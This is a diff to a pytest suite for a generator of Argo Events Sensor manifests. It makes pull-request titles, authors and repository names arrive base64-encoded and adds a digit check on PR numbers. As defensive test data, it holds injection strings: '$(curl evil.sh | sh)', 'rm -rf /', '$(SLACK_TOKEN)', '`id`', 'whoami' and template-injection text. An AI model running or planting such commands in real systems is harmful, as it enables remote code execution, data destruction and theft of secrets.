@@ -12,6 +12,7 @@ workflow_lint, the Sensor validated against the upstream schema.
 
 from __future__ import annotations
 
+import base64
 import copy
 import json
 import re
@@ -115,6 +116,7 @@ def test_merged_dependency_listens_to_the_repository_event() -> None:
         "body.pull_request.base.ref": ["^development$"],
         "body.repository.full_name": ["^(?i:Appen/sid_verification_backend_api)$"],
         "body.pull_request.merge_commit_sha": ["^[0-9a-f]{40}$"],
+        "body.pull_request.number": ["^[1-9][0-9]{0,9}$"],
     }
     assert "conditions" not in sensor["spec"]["triggers"][0]["template"]
 
@@ -174,28 +176,49 @@ def test_one_k8s_create_trigger_of_the_contract_workflow() -> None:
     }
 
 
+ENCODED_TEMPLATE = re.compile(r"^b64:\{\{ \.Input\.[A-Za-z0-9_.]+ \| toString \| b64enc \}\}$")
+
+
 @pytest.mark.parametrize("on_push", [False, True])
-def test_parameters_take_event_values_by_data_key_only(on_push: bool) -> None:
+def test_payload_text_is_encoded_and_only_shape_checked_values_go_plain(on_push: bool) -> None:
     sensor = sensors.sensor_manifest(service(trigger_on_push=on_push), stack_settings())
     params = sensor["spec"]["triggers"][0]["template"]["k8s"]["parameters"]
     assert "parameters" not in sensor["spec"]["triggers"][0]  # nothing patches the trigger itself
+    argument = {f"spec.arguments.parameters.{i}.value": a for i, a in enumerate(sensors.ARGUMENTS)}
+    filtered = {path for d in sensor["spec"]["dependencies"] for path, _ in
+                [(f["path"], f["value"]) for f in d["filters"]["data"]]}
     for p in params:
         src = p["src"]
         assert set(src) <= {"dependencyName", "dataKey", "dataTemplate"}, p
-        # The only templates are constants: no template action over event data.
-        if "dataTemplate" in src:
-            assert src["dataTemplate"] in {"pull_request", "push"} and "dataKey" not in src
+        assert ("dataKey" in src) != ("dataTemplate" in src), p
+        name = argument.get(p["dest"], p["dest"])
+        if "dataKey" in src:
+            # Plain only where a filter holds the value to a shape (hex sha, digits).
+            assert name in {"revision", "pr-number", "metadata.name"}, p
+            assert src["dataKey"] in filtered, p
+        elif name == "trigger":
+            assert src["dataTemplate"] in {"pull_request", "push"}
+        else:
+            assert name in {"pr-title", "author", "repository"}, p
+            assert ENCODED_TEMPLATE.fullmatch(src["dataTemplate"]), p
     names_ = [p for p in params if p["dest"] == "metadata.name"]
     assert [(p["operation"], p["src"]["dataKey"]) for p in names_] == (
         [("append", "body.pull_request.merge_commit_sha")] + ([("append", "body.after")] if on_push else [])
     )
     # Nothing the payload says reaches the manifest itself.
-    assert "{{" not in json.dumps(sensor)
+    assert "{{" not in json.dumps(sensor["spec"]["triggers"][0]["template"]["k8s"]["source"])
 
 
 def test_constants_cannot_be_templates() -> None:
     with pytest.raises(ValueError, match="template"):
         sensors.Constant("{{ .Input.body.ref }}")
+
+
+def test_payload_text_cannot_be_taken_plain() -> None:
+    with pytest.raises(ValueError, match="payload text"):
+        sensors._parameters("merged", {"pr-title": "body.pull_request.title"}, sensors.PR_REVISION)
+    with pytest.raises(ValueError, match="plain keys"):
+        sensors.Encoded("body.pull_request.title }}{{ .Input")
 
 
 def test_workflow_name_fits_a_label_for_long_service_names() -> None:
@@ -265,6 +288,11 @@ def summary(workflow: Manifest) -> Manifest:
     }
 
 
+def b64(text: str) -> str:
+    """An encoded argument as the Sensor renders it: `b64:` + base64 of the UTF-8 text."""
+    return "b64:" + base64.b64encode(text.encode()).decode()
+
+
 MERGED = {"sha": "c4295bd74fb0f4fda03689c3df3f2803b658fd85", "title": "Update the README with new information.",
           "author": "Codertocat"}
 
@@ -281,8 +309,8 @@ def test_merged_pr_into_the_branch_starts_one_release(stack: str, name: str) -> 
     sensor = sensors.sensor_manifest(svc, settings)
     created = deliver(sensor, svc, pull_request(base=settings.branch, repo=svc.repo), "pull_request")
     assert [summary(w) for w in created] == [expected_workflow(svc, settings, MERGED["sha"], {
-        "pr-number": "2", "pr-title": MERGED["title"], "author": MERGED["author"],
-        "repository": svc.repo, "trigger": "pull_request",
+        "pr-number": "2", "pr-title": b64(MERGED["title"]), "author": b64(MERGED["author"]),
+        "repository": b64(svc.repo), "trigger": "pull_request",
     })]
     assert created[0]["kind"] == "Workflow"
 
@@ -334,6 +362,9 @@ def _not_firing_cases() -> list[tuple[str, Callable[[str, str], tuple[dict[str, 
         ("upper-case merge sha", pr(merge_commit_sha="C4295BD74FB0F4FDA03689C3DF3F2803B658FD85")),
         ("merge sha with a suffix", pr(merge_commit_sha="c4295bd74fb0f4fda03689c3df3f2803b658fd85; rm -rf /")),
         ("merged is a string", pr(merged="yes")),
+        ("PR number is text", pr(number="$(SLACK_TOKEN)")),
+        ("PR number is negative", pr(number=-2)),
+        ("PR number is a fraction", pr(number=2.5)),
     ]
 
 
@@ -387,20 +418,24 @@ def test_large_pr_numbers_arrive_as_plain_digits() -> None:
     assert summary(workflow)["arguments"]["pr-number"] == "279147437"
 
 
-HOSTILE_TITLE = "$(curl evil.sh | sh) `id` \"quoted\" 'single' {{workflow.name}}\nsecond line; rm -rf / #"
+HOSTILE_TITLE = ("$(SLACK_TOKEN) $(curl evil.sh | sh) `id` \"quoted\" 'single' {{workflow.name}} "
+                 "{{=sprig.b64enc('x')}} {{ .Input.body }}\nsecond line\u202e; rm -rf / #")
 HOSTILE_LOGIN = "x$(id)`whoami`"
 
 
 @requires_shared
-def test_payload_text_arrives_verbatim_in_its_argument_only() -> None:
+def test_payload_text_arrives_encoded_in_its_argument_only() -> None:
     svc, settings = service(), stack_settings()
     sensor = sensors.sensor_manifest(svc, settings)
     payload = pull_request(base="development", repo=svc.repo, title=HOSTILE_TITLE)
     payload["pull_request"]["user"]["login"] = HOSTILE_LOGIN
     [workflow] = deliver(sensor, svc, payload, "pull_request")
     arguments = summary(workflow)["arguments"]
-    assert arguments["pr-title"] == HOSTILE_TITLE
-    assert arguments["author"] == HOSTILE_LOGIN
+    # Byte-exact after decoding; the template engine ran over none of it.
+    assert arguments["pr-title"] == b64(HOSTILE_TITLE)
+    assert arguments["author"] == b64(HOSTILE_LOGIN)
+    for value in arguments.values():
+        assert not set(value) & set("$(){}`\n\u202e"), value
     assert workflow["metadata"]["name"] == names.workflow_name(svc.name, "dev", MERGED["sha"])
     # Nowhere else in the created object: remove the two arguments, then look for any part.
     rest = copy.deepcopy(workflow)
@@ -412,6 +447,20 @@ def test_payload_text_arrives_verbatim_in_its_argument_only() -> None:
 
 
 @requires_shared
+@pytest.mark.parametrize("text", ["", "é ✓ 漢字", "{{ .Input.body.pull_request.title }}", "x" * 300])
+def test_encoded_text_survives_any_content(text: str) -> None:
+    """Empty text still renders (upstream refuses an empty template result), Unicode is UTF-8."""
+    svc = service(trigger_on_push=True)
+    sensor = sensors.sensor_manifest(svc, stack_settings())
+    [workflow] = deliver(sensor, svc, pull_request(base="development", repo=svc.repo, title=text), "pull_request")
+    assert summary(workflow)["arguments"]["pr-title"] == b64(text)
+    pushed = push(branch="development", repo=svc.repo)
+    pushed["pusher"]["name"] = text
+    [workflow] = deliver(sensor, svc, pushed, "push")
+    assert summary(workflow)["arguments"]["author"] == b64(text)
+
+
+@requires_shared
 @pytest.mark.parametrize("stack", STACKS)
 def test_push_starts_a_release_only_when_enabled(stack: str) -> None:
     settings = stack_settings(stack)
@@ -420,7 +469,8 @@ def test_push_starts_a_release_only_when_enabled(stack: str) -> None:
     after = fixture("push.branch.json")["after"]
     created = deliver(sensor, svc, push(branch=settings.branch, repo=svc.repo), "push")
     assert [summary(w) for w in created] == [expected_workflow(svc, settings, after, {
-        "pr-number": "", "pr-title": "", "author": "Codertocat", "repository": svc.repo, "trigger": "push",
+        "pr-number": "", "pr-title": "", "author": b64("Codertocat"), "repository": b64(svc.repo),
+        "trigger": "push",
     })]
     # A merged PR still fires, with its own values (no constant of the push leaks in).
     [merged] = deliver(sensor, svc, pull_request(base=settings.branch, repo=svc.repo), "pull_request")
@@ -641,4 +691,4 @@ def test_no_string_filter_in_the_module_is_unanchored() -> None:
     for call in re.findall(r"_string\(([^\n]+)\)", source):
         if call.startswith("path: str"):
             continue
-        assert re.search(r"exactly\(|repository_pattern\(|SHA\b", call), call
+        assert re.search(r"exactly\(|repository_pattern\(|SHA\b|PR_NUMBER\b", call), call
